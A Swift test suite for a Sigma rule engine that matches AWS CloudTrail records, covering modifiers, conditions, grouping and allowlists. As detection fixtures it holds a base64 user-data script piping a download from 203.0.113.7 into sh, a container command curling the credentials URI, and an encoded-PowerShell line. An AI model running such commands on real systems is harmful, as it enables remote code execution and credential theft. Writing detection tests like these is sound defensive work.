import Foundation
import Testing
import TrailAnalysis
import TrailModel
import TrailTestSupport

/// One Sigma detection, one record, and whether the rule must match it.
struct SigmaCase: CustomTestStringConvertible, Sendable {
    let name: String
    /// The `detection:` body, indented by four spaces.
    let detection: String
    let record: String
    let matches: Bool

    var testDescription: String { "\(name) → \(matches ? "match" : "no match")" }

    static func match(_ name: String, _ detection: String, _ changes: [(String, JSONValue?)] = []) -> SigmaCase {
        SigmaCase(name: name, detection: detection, record: RecordBuilder().json(setting: changes), matches: true)
    }

    static func miss(_ name: String, _ detection: String, _ changes: [(String, JSONValue?)] = []) -> SigmaCase {
        SigmaCase(name: name, detection: detection, record: RecordBuilder().json(setting: changes), matches: false)
    }
}

/// A rule document around a detection body.
func sigmaRule(_ detection: String, id: String = "test-rule", level: String = "high") -> String {
    """
    title: Test rule
    id: \(id)
    logsource:
        product: aws
        service: cloudtrail
    detection:
    \(detection)
    level: \(level)
    """
}

/// Whether the rule with `detection` matches `record`, through the whole scan.
func sigmaMatches(_ detection: String, _ record: String) -> Bool {
    let configuration = sigmaConfiguration(sigmaRule(detection))
    return findings(json: [record], configuration: configuration).contains { $0.rule == "sigma:test-rule" }
}

private let userData = Data("#!/bin/bash\ncurl -s http://203.0.113.7/x | sh\n".utf8).base64EncodedString()
private let policy =
    #"{"Version":"2012-10-17","Statement":[{"Effect":"Allow","Action":"s3:GetObject","Resource":"*"}]}"#

/// A user agent longer than the 256 bytes an index lowercases in place (some SDKs append long feature lists).
private let longAgent = "AWS-SDK-Java/2.25.0 " + (0..<40).map { "Feature-\($0)/SDK" }.joined(separator: " ")

/// Every modifier and condition form, each with a record that matches and one that does not. The default record is
/// an IAM user (alice, AKIA key) calling s3 ListBuckets with aws-cli from 203.0.113.10 on macOS.
let sigmaCases: [SigmaCase] = [
    // Plain values: case-insensitive, wildcards, escapes, lists.
    .match("exact value, any case", "    sel:\n        eventName: listbuckets\n    condition: sel"),
    .miss("exact value is whole", "    sel:\n        eventName: List\n    condition: sel"),
    .match(
        "non-ASCII value, any case", "    sel:\n        userIdentity.userName: 'ÄLICE'\n    condition: sel",
        [("userIdentity.userName", "älice")]),
    .match(
        "Kelvin sign lowercases to k", "    sel:\n        userIdentity.userName: 'kate'\n    condition: sel",
        [("userIdentity.userName", "\u{212A}ate")]),
    .match(
        "indexed value whose lowercase is a byte shorter (Ɥ is three bytes, ɥ two)",
        "    sel:\n        userAgent: 'ɥx-tool'\n    condition: sel", [("userAgent", "Ɥx-tool")]),
    .match(
        "indexed value longer than the lookup buffer, any case",
        "    sel:\n        userAgent: '\(longAgent.lowercased())'\n    condition: sel",
        [("userAgent", .string(longAgent))]),
    .miss(
        "indexed long value, another long value",
        "    sel:\n        userAgent: '\(longAgent.lowercased())'\n    condition: sel",
        [("userAgent", .string(longAgent.replacingOccurrences(of: "SDK", with: "SDX")))]),
    .match(
        "gated rule on every record, non-ASCII field",
        "    sel:\n        userAgent|contains: 'kit'\n    condition: sel",
        [("userAgent", "\u{212A}IT/1.0 (ü)")]),
    .match(
        "MFAUsed 'NO' matches No", "    sel:\n        additionalEventData.MFAUsed: 'NO'\n    condition: sel",
        [("additionalEventData", .object([.init("MFAUsed", "No")]))]),
    .miss(
        "MFAUsed 'NO' does not match Yes", "    sel:\n        additionalEventData.MFAUsed: 'NO'\n    condition: sel",
        [("additionalEventData", .object([.init("MFAUsed", "Yes")]))]),
    .match("star wildcard", "    sel:\n        userAgent: 'aws-cli/*'\n    condition: sel"),
    .miss("star wildcard anchored", "    sel:\n        userAgent: 'boto3*'\n    condition: sel"),
    .match("question mark wildcard", "    sel:\n        awsRegion: 'us-east-?'\n    condition: sel"),
    .miss("question mark is one character", "    sel:\n        awsRegion: 'us-east?'\n    condition: sel"),
    .match(
        "escaped star is literal", "    sel:\n        requestParameters.bucketName: 'a\\*b'\n    condition: sel",
        [("requestParameters.bucketName", "a*b")]),
    .miss(
        "escaped star is not a wildcard", "    sel:\n        requestParameters.bucketName: 'a\\*b'\n    condition: sel",
        [("requestParameters.bucketName", "axxb")]),
    .match(
        "list of values is OR",
        "    sel:\n        eventName:\n            - GetObject\n            - ListBuckets\n    condition: sel"),
    .miss(
        "list of values, none",
        "    sel:\n        eventName:\n            - GetObject\n            - PutObject\n    condition: sel"),
    .match(
        "map is AND",
        "    sel:\n        eventName: ListBuckets\n        eventSource: s3.amazonaws.com\n    condition: sel"),
    .miss(
        "map is AND, one fails",
        "    sel:\n        eventName: ListBuckets\n        eventSource: iam.amazonaws.com\n    condition: sel"),
    .match("cased exact", "    sel:\n        eventName|cased: ListBuckets\n    condition: sel"),
    .miss("cased is case-sensitive", "    sel:\n        eventName|cased: listbuckets\n    condition: sel"),
    // String modifiers.
    .match("contains", "    sel:\n        userAgent|contains: 'darwin'\n    condition: sel"),
    .miss("contains, absent", "    sel:\n        userAgent|contains: 'windows'\n    condition: sel"),
    .match("startswith", "    sel:\n        userAgent|startswith: 'AWS-CLI/2'\n    condition: sel"),
    .miss("startswith, elsewhere", "    sel:\n        userAgent|startswith: 'Python'\n    condition: sel"),
    .match("endswith", "    sel:\n        userAgent|endswith: 'command/s3.ls'\n    condition: sel"),
    .miss("endswith, elsewhere", "    sel:\n        userAgent|endswith: 'aws-cli'\n    condition: sel"),
    .match(
        "contains|all",
        "    sel:\n        userAgent|contains|all:\n            - aws-cli\n            - Darwin\n    condition: sel"),
    .miss(
        "contains|all, one missing",
        "    sel:\n        userAgent|contains|all:\n            - aws-cli\n            - Windows\n    condition: sel"),
    .match(
        "contains with inner wildcard", "    sel:\n        userAgent|contains: 'Python/*Darwin'\n    condition: sel"),
    .match(
        "contains star matches any value", "    sel:\n        errorMessage|contains: '*'\n    condition: sel",
        [("errorMessage", "Denied")]),
    .miss("contains star needs the field", "    sel:\n        errorMessage|contains: '*'\n    condition: sel"),
    // Regular expressions.
    .match("re searches anywhere", "    sel:\n        userAgent|re: 'aws-cli/2\\.\\d+'\n    condition: sel"),
    .miss("re anchored", "    sel:\n        userAgent|re: '^Python'\n    condition: sel"),
    .miss("re is case-sensitive", "    sel:\n        userAgent|re: 'AWS-CLI'\n    condition: sel"),
    .match("re|i", "    sel:\n        userAgent|re|i: 'AWS-CLI'\n    condition: sel"),
    .match(
        "re|s dot matches newline", "    sel:\n        requestParameters.script|re|s: 'bin.curl'\n    condition: sel",
        [("requestParameters.script", "bin\ncurl")]),
    .miss(
        "re without s", "    sel:\n        requestParameters.script|re: 'bin.curl'\n    condition: sel",
        [("requestParameters.script", "bin\ncurl")]),
    .match(
        "re|m anchors at lines", "    sel:\n        requestParameters.script|re|m: '^curl'\n    condition: sel",
        [("requestParameters.script", "#!/bin/sh\ncurl x")]),
    .miss(
        "re without m", "    sel:\n        requestParameters.script|re: '^curl'\n    condition: sel",
        [("requestParameters.script", "#!/bin/sh\ncurl x")]),
    // Networks, existence, null.
    .match("cidr IPv4", "    sel:\n        sourceIPAddress|cidr: 203.0.113.0/24\n    condition: sel"),
    .miss("cidr IPv4 outside", "    sel:\n        sourceIPAddress|cidr: 198.51.100.0/24\n    condition: sel"),
    .match(
        "cidr IPv6", "    sel:\n        sourceIPAddress|cidr: '2001:db8::/32'\n    condition: sel",
        [("sourceIPAddress", "2001:db8:5::1")]),
    .miss(
        "cidr on a name", "    sel:\n        sourceIPAddress|cidr: 10.0.0.0/8\n    condition: sel",
        [("sourceIPAddress", "ec2.amazonaws.com")]),
    .match("exists true", "    sel:\n        userIdentity.accessKeyId|exists: true\n    condition: sel"),
    .miss("exists true, missing", "    sel:\n        errorCode|exists: true\n    condition: sel"),
    .match("exists false, missing", "    sel:\n        errorCode|exists: false\n    condition: sel"),
    .match("null matches a missing field", "    sel:\n        errorCode: null\n    condition: sel"),
    .miss(
        "null does not match a value", "    sel:\n        errorCode: null\n    condition: sel",
        [("errorCode", "AccessDenied")]),
    .match("null matches a null member", "    sel:\n        requestParameters: null\n    condition: sel"),
    .match(
        "null in a list", "    sel:\n        errorCode:\n            - Success\n            - null\n    condition: sel"),
    // fieldref.
    .match(
        "fieldref equal, any case",
        "    sel:\n        userIdentity.userName|fieldref: requestParameters.userName\n    condition: sel",
        [("requestParameters.userName", "Alice")]),
    .miss(
        "fieldref different",
        "    sel:\n        userIdentity.userName|fieldref: requestParameters.userName\n    condition: sel",
        [("requestParameters.userName", "bob")]),
    .miss(
        "fieldref to a missing field",
        "    sel:\n        userIdentity.userName|fieldref: requestParameters.userName\n    condition: sel"),
    .match(
        "fieldref|endswith",
        "    sel:\n        userIdentity.arn|fieldref|endswith: requestParameters.userName\n    condition: sel",
        [("requestParameters.userName", "alice")]),
    // Encodings.
    .match(
        "base64offset|contains",
        "    sel:\n        requestParameters.userData|base64offset|contains: 'curl -s'\n    condition: sel",
        [("requestParameters.userData", .string(userData))]),
    .miss(
        "base64offset|contains, absent",
        "    sel:\n        requestParameters.userData|base64offset|contains: 'wget'\n    condition: sel",
        [("requestParameters.userData", .string(userData))]),
    .match(
        "base64 exact", "    sel:\n        requestParameters.token|base64: 'admin'\n    condition: sel",
        [("requestParameters.token", "YWRtaW4=")]),
    .miss(
        "base64 is case-sensitive", "    sel:\n        requestParameters.token|base64: 'admin'\n    condition: sel",
        [("requestParameters.token", "ywrtaw4=")]),
    .match(
        "windash", "    sel:\n        requestParameters.commandLine|windash|contains: ' -enc '\n    condition: sel",
        [("requestParameters.commandLine", "powershell /enc AAAA")]),
    .miss(
        "windash, other flag",
        "    sel:\n        requestParameters.commandLine|windash|contains: ' -enc '\n    condition: sel",
        [("requestParameters.commandLine", "powershell /exec AAAA")]),
    // Numbers and booleans.
    .match(
        "number equals JSON number", "    sel:\n        requestParameters.maxResults: 50\n    condition: sel",
        [("requestParameters.maxResults", 50)]),
    .match(
        "number equals string", "    sel:\n        requestParameters.maxResults: 50\n    condition: sel",
        [("requestParameters.maxResults", "50")]),
    .miss(
        "number differs", "    sel:\n        requestParameters.maxResults: 50\n    condition: sel",
        [("requestParameters.maxResults", 51)]),
    .match(
        "gt", "    sel:\n        requestParameters.maxResults|gt: 40\n    condition: sel",
        [("requestParameters.maxResults", 50)]),
    .miss(
        "lt", "    sel:\n        requestParameters.maxResults|lt: 40\n    condition: sel",
        [("requestParameters.maxResults", 50)]),
    .match(
        "gte at the bound", "    sel:\n        requestParameters.maxResults|gte: 50\n    condition: sel",
        [("requestParameters.maxResults", 50)]),
    .miss(
        "lte below", "    sel:\n        requestParameters.maxResults|lte: 49\n    condition: sel",
        [("requestParameters.maxResults", 50)]),
    .match(
        "boolean true", "    sel:\n        responseElements.publiclyAccessible: true\n    condition: sel",
        [("responseElements.publiclyAccessible", true)]),
    .miss(
        "boolean false", "    sel:\n        responseElements.publiclyAccessible: true\n    condition: sel",
        [("responseElements.publiclyAccessible", false)]),
    .match(
        "string 'true' matches JSON true",
        "    sel:\n        responseElements.publiclyAccessible: 'true'\n    condition: sel",
        [("responseElements.publiclyAccessible", true)]),
    .match("readOnly", "    sel:\n        readOnly: true\n    condition: sel"),
    .miss("readOnly false", "    sel:\n        readOnly: false\n    condition: sel"),
    // Paths: through arrays, objects as JSON text, any member of the record.
    .match(
        "path through arrays",
        "    sel:\n        requestParameters.containerDefinitions.command|contains: 'CREDENTIALS'\n    condition: sel",
        [("requestParameters.containerDefinitions", [["command": ["sh", "-c", "curl $AWS_CREDENTIALS_URI"]]])]),
    .miss(
        "path through arrays, absent",
        "    sel:\n        requestParameters.containerDefinitions.command|contains: 'CREDENTIALS'\n    condition: sel",
        [("requestParameters.containerDefinitions", [["command": ["sleep", "10"]]])]),
    .match(
        "object compared as JSON text", "    sel:\n        requestParameters|contains: 'Suspended'\n    condition: sel",
        [("requestParameters.VersioningConfiguration.Status", "Suspended")]),
    .match(
        "policy inside a string, as JSON",
        "    sel:\n        requestParameters|contains|all:\n            - '\"s3:GetObject\"'\n            - '\"Allow\"'\n    condition: sel",
        [("requestParameters.policyDocument", .string(policy))]),
    .miss(
        "policy inside a string, absent",
        "    sel:\n        requestParameters|contains|all:\n            - '\"s3:PutObject\"'\n            - '\"Allow\"'\n    condition: sel",
        [("requestParameters.policyDocument", .string(policy))]),
    .match("any member of the record", "    sel:\n        eventCategory: Management\n    condition: sel"),
    .match(
        "nested member not extracted",
        "    sel:\n        userIdentity.sessionContext.attributes.creationDate|startswith: '2026-'\n    condition: sel",
        [("userIdentity.sessionContext.attributes.creationDate", "2026-11-02T09:00:00Z")]),
    .match(
        "any member of a record with escapes", "    sel:\n        status: success\n    condition: sel",
        [("status", "success"), ("userAgent", "agent \"quoted\" \\ slash")]),
    .miss("missing member", "    sel:\n        status: success\n    condition: sel"),
    // Keywords.
    .match("keywords", "    keywords:\n        - 'EXAMPLE8A3F6C2D1B'\n    condition: keywords"),
    .miss("keywords, absent", "    keywords:\n        - 'nothing-like-this'\n    condition: keywords"),
    // Searches as lists of maps, and conditions.
    .match(
        "list of maps is OR",
        "    sel:\n        - eventName: GetObject\n        - userAgent|contains: aws-cli\n    condition: sel"),
    .miss(
        "list of maps, none",
        "    sel:\n        - eventName: GetObject\n        - userAgent|contains: boto\n    condition: sel"),
    .match(
        "and", "    a:\n        eventName: ListBuckets\n    b:\n        awsRegion: us-east-1\n    condition: a and b"),
    .miss(
        "and, one false",
        "    a:\n        eventName: ListBuckets\n    b:\n        awsRegion: eu-west-1\n    condition: a and b"),
    .match("or", "    a:\n        eventName: GetObject\n    b:\n        awsRegion: us-east-1\n    condition: a or b"),
    .miss(
        "not",
        "    a:\n        eventName: ListBuckets\n    b:\n        awsRegion: us-east-1\n    condition: a and not b"),
    .match(
        "not a filter",
        "    a:\n        eventName: ListBuckets\n    filter:\n        userIdentity.type: AssumedRole\n    condition: a and not filter"
    ),
    .match(
        "parentheses",
        "    a:\n        eventName: GetObject\n    b:\n        awsRegion: us-east-1\n    c:\n        eventSource: s3.amazonaws.com\n    condition: (a or b) and c"
    ),
    .miss(
        "parentheses change precedence",
        "    a:\n        eventName: GetObject\n    b:\n        awsRegion: us-east-1\n    c:\n        eventSource: iam.amazonaws.com\n    condition: (a or b) and c"
    ),
    .match(
        "1 of X*",
        "    sel_a:\n        eventName: GetObject\n    sel_b:\n        eventName: ListBuckets\n    condition: 1 of sel_*"
    ),
    .miss(
        "all of X*",
        "    sel_a:\n        eventName: GetObject\n    sel_b:\n        eventName: ListBuckets\n    condition: all of sel_*"
    ),
    .match(
        "all of X*, all hold",
        "    sel_a:\n        eventName: ListBuckets\n    sel_b:\n        awsRegion: us-east-1\n    other:\n        eventName: Nope\n    condition: all of sel_*"
    ),
    .match(
        "1 of them",
        "    a:\n        eventName: GetObject\n    b:\n        eventName: ListBuckets\n    condition: 1 of them"),
    .miss(
        "all of them",
        "    a:\n        eventName: GetObject\n    b:\n        eventName: ListBuckets\n    condition: all of them"),
    .match(
        "not 1 of filter*",
        "    sel:\n        eventName: ListBuckets\n    filter_a:\n        awsRegion: eu-west-1\n    filter_b:\n        sourceIPAddress: AWS Internal\n    condition: sel and not 1 of filter_*"
    ),
    .miss(
        "not 1 of filter*, one holds",
        "    sel:\n        eventName: ListBuckets\n    filter_a:\n        awsRegion: eu-west-1\n    filter_b:\n        awsRegion: us-east-1\n    condition: sel and not 1 of filter_*"
    ),
    .match(
        "condition list is OR",
        "    a:\n        eventName: GetObject\n    b:\n        eventName: ListBuckets\n    condition:\n        - a\n        - b"
    ),
    .match(
        "failed calls are seen", "    sel:\n        errorCode: AccessDenied\n    condition: sel",
        [("errorCode", "AccessDenied")]),
]

@Suite("Sigma matching")
struct SigmaMatchingTests {
    @Test(arguments: sigmaCases)
    func matches(_ sigmaCase: SigmaCase) {
        #expect(sigmaMatches(sigmaCase.detection, sigmaCase.record) == sigmaCase.matches)
    }

    @Test("a finding carries the rule's id, severity, ATT&CK ids, references and the matched fields")
    func findingShape() throws {
        let yaml = """
            title: Login profile changed for another user
            id: 055fb148-60f8-462d-ad16-26926ce050f1
            references:
                - https://example.com/privesc
            tags:
                - attack.persistence
                - attack.t1098
                - attack.t1098.001
            logsource:
                product: aws
                service: cloudtrail
            detection:
                selection:
                    eventSource: iam.amazonaws.com
                    eventName: UpdateLoginProfile
                filter:
                    userIdentity.arn|fieldref: requestParameters.userName
                condition: selection and not filter
            level: high
            """
        let record = RecordBuilder {
            $0.eventSource = "iam.amazonaws.com"
            $0.eventName = "UpdateLoginProfile"
            $0.requestParameters = #"{"userName":"bob"}"#
        }
        let result = findings(json: [record.json], configuration: sigmaConfiguration(yaml))
        let finding = try #require(result.first { $0.rule == "sigma:055fb148-60f8-462d-ad16-26926ce050f1" })
        #expect(finding.severity == .high)
        #expect(finding.attack == ["T1098", "T1098.001"])
        #expect(finding.references == ["https://example.com/privesc"])
        #expect(finding.title.hasPrefix("Login profile changed for another user"))
        #expect(finding.accessKeyId == "AKIAIOSFODNN7EXAMPLE")
        let fields = try #require(finding.evidence["matchedFields"])
        #expect(fields["eventName"] == .string("UpdateLoginProfile"))
        #expect(fields["eventSource"] == .string("iam.amazonaws.com"))
        // The filter did not hold, so its fields are not evidence of the match.
        #expect(fields["userIdentity.arn"] == nil)
    }

    @Test("a group counts every event name, beyond the eight it counts inline")
    func manyEventNames() throws {
        let names = (0..<12).map { "Action\($0)" }
        let records = (0..<36).map { index in
            RecordBuilder {
                $0.eventID = "evt-\(String(format: "%02d", index))"
                $0.eventTime = "2026-11-02T10:\(String(format: "%02d", index)):00Z"
                $0.eventName = names[index % names.count]
            }.json
        }
        let configuration = sigmaConfiguration(
            sigmaRule("    sel:\n        eventSource: s3.amazonaws.com\n    condition: sel"))
        let result = findings(json: records, configuration: configuration).filter { $0.rule == "sigma:test-rule" }
        let finding = try #require(result.first)
        #expect(result.count == 1)
        #expect(finding.eventCount == 36)
        let counted = try #require(finding.evidence["eventNames"]?.objectMembers)
        #expect(Set(counted.map(\.key)) == Set(names))
        #expect(counted.allSatisfy { $0.value == .integer(3) })
    }

    @Test("disabled Sigma rules and severity overrides apply like built-in ones")
    func configurationApplies() {
        var configuration = sigmaConfiguration(
            sigmaRule("    sel:\n        eventName: ListBuckets\n    condition: sel"))
        configuration.severityOverrides["sigma:test-rule"] = .low
        let changed = findings(json: [RecordBuilder().json], configuration: configuration)
        #expect(changed.first { $0.rule == "sigma:test-rule" }?.severity == .low)
        configuration.disabledRules.insert("sigma:test-rule")
        #expect(
            !findings(json: [RecordBuilder().json], configuration: configuration).contains {
                $0.rule == "sigma:test-rule"
            })
    }

    @Test("allowlists apply to Sigma rules per event: the rule's own and the global one")
    func allowlistsApply() {
        // alice's and bob's calls interleave within one hour, so the repeat path meets both principals' groups.
        let records = (0..<6).map { index in
            RecordBuilder {
                $0.eventID = "evt-\(index)"
                $0.eventTime = "2026-11-02T10:1\(index):00Z"
                if index % 2 == 1 {
                    $0.arn = "arn:aws:iam::111122223333:user/bob"
                    $0.userName = "bob"
                    $0.accessKeyId = "AKIAI44QH8DHBEXAMPLE"
                    $0.sourceIPAddress = "198.51.100.7"
                }
            }.json
        }
        var configuration = sigmaConfiguration(
            sigmaRule("    sel:\n        eventName: ListBuckets\n    condition: sel"))
        func actors() -> [String: Int] {
            Dictionary(
                findings(json: records, configuration: configuration).filter { $0.rule == "sigma:test-rule" }
                    .map { ($0.principal?.arn ?? "", $0.eventCount) }, uniquingKeysWith: +)
        }
        #expect(actors() == ["arn:aws:iam::111122223333:user/alice": 3, "arn:aws:iam::111122223333:user/bob": 3])
        configuration.ruleAllowlists["sigma:test-rule"] = [AllowEntry(principalArn: "*:user/bob")]
        #expect(actors() == ["arn:aws:iam::111122223333:user/alice": 3])
        configuration.ruleAllowlists = [:]
        configuration.allowlist = [AllowEntry(cidr: CIDR("203.0.113.0/24"))]
        #expect(actors() == ["arn:aws:iam::111122223333:user/bob": 3])
    }

    @Test("matches of one rule and principal in an hour are one finding, counting every event name")
    func grouping() throws {
        // Out of order on purpose: an earlier event after later ones replaces the finding's first event.
        let order = [2, 0, 1, 3, 4, 5, 6]
        let records = order.map { index in
            RecordBuilder {
                $0.eventID = "evt-\(index)"
                $0.eventTime = "2026-11-02T10:1\(index):00Z"
                $0.eventName = index % 3 == 0 ? "GetObject" : "ListBuckets"
            }.json
        }
        let nextHour = RecordBuilder {
            $0.eventID = "evt-later"
            $0.eventTime = "2026-11-02T11:30:00Z"
        }.json
        let configuration = sigmaConfiguration(
            sigmaRule(
                "    sel:\n        eventName:\n            - ListBuckets\n            - GetObject\n    condition: sel"))
        let result = findings(json: records + [nextHour], configuration: configuration)
            .filter { $0.rule == "sigma:test-rule" }.sorted { ($0.firstSeen ?? 0) < ($1.firstSeen ?? 0) }
        #expect(result.count == 2)
        let first = try #require(result.first)
        #expect(first.eventCount == 7)
        #expect(Array(first.eventIds) == (0..<7).map { "evt-\($0)" })
        #expect(first.title.hasPrefix("Test rule: GetObject by arn:aws:iam::111122223333:user/alice"))
        #expect(first.evidence["eventNames"] == .object([.init("ListBuckets", 4), .init("GetObject", 3)]))
        #expect(result.last?.eventCount == 1)
    }

    @Test("a noisy group keeps its 50 earliest event IDs, in order, however its records arrive", arguments: 0..<8)
    func earliestEventIDs(seed: Int) throws {
        var generator = SeededGenerator(seed: UInt64(seed))
        // 200 calls in one hour, 16 in each second (so IDs settle the order), shuffled; CloudTrail's UUIDs and
        // a few IDs of other forms.
        let events: [(time: Int, id: String)] = (0..<200).map { index in
            let hex = String(format: "%032x", index &* 2_654_435_761 % 1_000_003)
            let uuid = [
                hex.prefix(8), hex.dropFirst(8).prefix(4), hex.dropFirst(12).prefix(4),
                hex.dropFirst(16).prefix(4), hex.dropFirst(20),
            ].joined(separator: "-")
            return (time: index / 16, id: index % 9 == 0 ? "evt-\(index)" : uuid)
        }
        let records = events.shuffled(using: &generator).map { event in
            RecordBuilder {
                $0.eventID = event.id
                $0.eventTime = String(format: "2026-11-02T10:%02d:%02dZ", event.time / 60, event.time % 60)
                $0.eventName = "ListBuckets"
            }.json
        }
        let configuration = sigmaConfiguration(
            sigmaRule("    sel:\n        eventName: ListBuckets\n    condition: sel"))
        let finding = try #require(
            findings(json: records, configuration: configuration).first { $0.rule == "sigma:test-rule" })
        let expected = events.sorted {
            $0.time != $1.time ? $0.time < $1.time : $0.id.utf8.lexicographicallyPrecedes($1.id.utf8)
        }
        #expect(finding.eventCount == 200)
        #expect(Array(finding.eventIds) == expected.prefix(Finding.eventIDLimit).map(\.id))
    }
}
